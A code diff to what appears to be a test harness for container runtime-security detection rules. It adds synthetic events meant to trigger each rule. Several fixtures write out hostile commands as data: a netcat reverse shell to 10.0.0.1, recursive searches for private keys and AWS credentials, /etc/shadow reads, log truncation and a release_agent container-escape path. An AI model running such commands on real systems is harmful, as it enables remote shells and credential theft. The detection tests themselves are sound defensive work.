@@ -66,6 +66,24 @@ pub(crate) struct Event {
     pub(crate) capabilities: &'static str,
     /// Flags, a request, a domain.
     pub(crate) argument: &'static str,
+    /// What else is true of it.
+    pub(crate) also: Also,
+}
+
+/// Whether something unusual is true.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+pub(crate) enum Also {
+    /// Nothing.
+    #[default]
+    Nothing,
+    /// The executable was written after the image.
+    UpperLayer,
+    /// The executable is in memory only.
+    Memfd,
+    /// The container is privileged.
+    Privileged,
+    /// The other end is the API server.
+    ApiServer,
 }
 
 type Get = for<'e> fn(&'e Event, &Field) -> Answer<'e>;
@@ -141,6 +159,13 @@ fn port(event: &Event) -> Answer<'_> {
     }
 }
 
+fn server_name(event: &Event) -> Answer<'_> {
+    if event.also == Also::ApiServer {
+        return text("kubernetes.default.svc.cluster.local");
+    }
+    Answer::Absent
+}
+
 macro_rules! fields {
     ($($name:literal $kind:ident $several:ident $argument:ident $get:expr;)*) => {
         /// What a host program can answer.
@@ -179,8 +204,8 @@ fields! {
     "proc.sname" Text One None |_, _| text("init");
     "proc.tty" Number One None |e, _| number(e.terminal);
     "proc.duration" Number One None |_, _| number(60_000_000_000);
-    "proc.is_exe_upper_layer" Boolean One None |_, _| truth(false);
-    "proc.is_exe_from_memfd" Boolean One None |_, _| truth(false);
+    "proc.is_exe_upper_layer" Boolean One None |e, _| truth(e.also == Also::UpperLayer);
+    "proc.is_exe_from_memfd" Boolean One None |e, _| truth(e.also == Also::Memfd);
     "proc.exe_ino.ctime" Number One None |_, _| number(1);
     "proc.exe_ino.mtime" Number One None |_, _| number(1);
     "proc.exe_ino.ctime_duration_proc_start" Number One None |_, _| number(1);
@@ -203,7 +228,7 @@ fields! {
     "fd.name_changed" Boolean One None |_, _| truth(false);
     "fd.ip" Address Either None |e, _| address(e);
     "fd.sip" Address One None |e, _| address(e);
-    "fd.sip.name" Text One None |_, _| Answer::Absent;
+    "fd.sip.name" Text One None |e, _| server_name(e);
     "fd.net" Address Either None |e, _| address(e);
     "fd.snet" Address One None |e, _| address(e);
     "fd.sport" Number One None |e, _| port(e);
@@ -211,7 +236,7 @@ fields! {
     "fd.rport" Number One None |e, _| port(e);
     "container.id" Text One None |e, _| text(e.container);
     "container.image.repository" Text One None |e, _| text(e.image);
-    "container.privileged" Boolean One None |_, _| truth(false);
+    "container.privileged" Boolean One None |e, _| truth(e.also == Also::Privileged);
     "container.start_ts" Number One None |_, _| number(1);
     "k8s.ns.name" Text One None |_, _| text("default");
 }
@@ -262,6 +287,7 @@ pub(crate) fn usual() -> Vec<Event> {
         terminal: 0,
         capabilities: "",
         argument: "O_RDONLY|O_CLOEXEC",
+        also: Also::Nothing,
     };
     let container = Event {
         line: vec![
@@ -371,5 +397,108 @@ pub(crate) fn usual() -> Vec<Event> {
             kind: "read",
             ..host
         },
+    ]
+}
+
+/// An event, changed from one of the usual ones.
+fn changed(at: usize, change: impl FnOnce(&mut Event)) -> Event {
+    let mut event = usual().swap_remove(at);
+    change(&mut event);
+    event
+}
+
+/// For each rule of the stable file an event that it holds for.
+pub(crate) fn remarkable() -> Vec<(&'static str, Event)> {
+    let open = |path| changed(0, move |event| event.path = path);
+    let run = |name, args| changed(4, move |event| event.line[0] = Process::new(name, name, args));
+    let run_so = |also| changed(4, move |event| event.also = also);
+    let call = |at, kind, argument| {
+        changed(at, move |event| {
+            event.kind = kind;
+            event.argument = argument;
+        })
+    };
+    vec![
+        (
+            "Directory traversal monitored file read",
+            changed(3, |event| event.path = "/etc/nginx/../../etc/passwd"),
+        ),
+        (
+            "Read sensitive file trusted after startup",
+            changed(3, |event| event.path = "/etc/shadow"),
+        ),
+        ("Read sensitive file untrusted", open("/etc/shadow")),
+        (
+            "Run shell untrusted",
+            changed(5, |event| event.line[1] = Process::new("nginx", "nginx", "")),
+        ),
+        ("System user interactive", changed(6, |event| event.user = "daemon")),
+        (
+            "Terminal shell in container",
+            changed(5, |event| {
+                event.terminal = 34816;
+                event.line.drain(1..3);
+            }),
+        ),
+        (
+            "Contact K8S API Server From Container",
+            changed(8, |event| event.also = Also::ApiServer),
+        ),
+        (
+            "Netcat Remote Code Execution in Container",
+            run("nc", "-e /bin/sh 10.0.0.1"),
+        ),
+        ("Search Private Keys or Passwords", run("grep", "-r BEGIN PRIVATE /")),
+        (
+            "Clear Log Activities",
+            changed(2, |event| {
+                event.path = "/var/log/syslog";
+                event.argument = "O_WRONLY|O_TRUNC";
+            }),
+        ),
+        ("Remove Bulk Data from Disk", run("shred", "-u /tmp/x")),
+        ("Create Symlink Over Sensitive Files", call(0, "symlinkat", "/etc")),
+        ("Create Hardlink Over Sensitive Files", call(0, "linkat", "/etc/shadow")),
+        ("Packet socket created in container", call(1, "socket", "AF_PACKET")),
+        (
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+            changed(7, |event| event.kind = "dup2"),
+        ),
+        (
+            "Linux Kernel Module Injection Detected",
+            changed(4, |event| {
+                event.kind = "finit_module";
+                event.capabilities = "CAP_SYS_MODULE";
+            }),
+        ),
+        (
+            "Debugfs Launched in Privileged Container",
+            changed(4, |event| {
+                event.line[0] = Process::new("debugfs", "/sbin/debugfs", "/dev/sda1");
+                event.also = Also::Privileged;
+            }),
+        ),
+        (
+            "Detect release_agent File Container Escapes",
+            changed(2, |event| {
+                event.path = "/tmp/cgroup/release_agent";
+                event.capabilities = "CAP_DAC_OVERRIDE CAP_SYS_ADMIN";
+            }),
+        ),
+        ("PTRACE attached to process", call(0, "ptrace", "PTRACE_ATTACH")),
+        ("PTRACE anti-debug attempt", call(0, "ptrace", "PTRACE_TRACEME")),
+        ("Find AWS Credentials", run("find", "/ -name .aws/credentials")),
+        (
+            "Execution from /dev/shm",
+            changed(4, |event| event.line[0].exe = "/dev/shm/x"),
+        ),
+        ("Drop and execute new binary in container", run_so(Also::UpperLayer)),
+        (
+            "Disallowed SSH Connection Non Standard Port",
+            changed(8, |event| {
+                event.line[0] = Process::new("ssh", "ssh", "-p 443 example.org")
+            }),
+        ),
+        ("Fileless execution via memfd_create", run_so(Also::Memfd)),
     ]
 }
